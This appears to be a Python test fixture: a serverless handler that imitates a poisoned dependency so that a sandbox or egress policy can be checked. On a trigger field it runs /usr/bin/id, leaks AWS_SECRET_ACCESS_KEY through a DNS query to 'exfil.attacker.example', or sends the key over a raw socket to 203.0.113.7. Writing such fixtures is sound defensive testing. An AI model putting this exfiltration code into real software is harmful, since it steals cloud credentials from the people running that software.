"""The function tools/docker-test.sh invokes: a normal answer, or what a
poisoned dependency would do when the event says so."""
import os
import socket
import subprocess


def handler(event, ctx):
    what = event.get("do") if isinstance(event, dict) else None
    if what == "exec":  # run a program the policy does not allow
        return subprocess.run(["/usr/bin/id"], capture_output=True, text=True).stdout
    if what == "dns":  # smuggle the secret key out in a DNS name
        secret = os.environ.get("AWS_SECRET_ACCESS_KEY", "none")
        return str(socket.getaddrinfo(f"{secret}.exfil.attacker.example", 443))
    if what == "connect":  # send it to an address no rule allows
        with socket.create_connection(("203.0.113.7", 443), timeout=5) as s:
            s.sendall(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode())
        return "sent"
    return {"ok": True, "request_id": ctx.aws_request_id, "function": ctx.function_name}
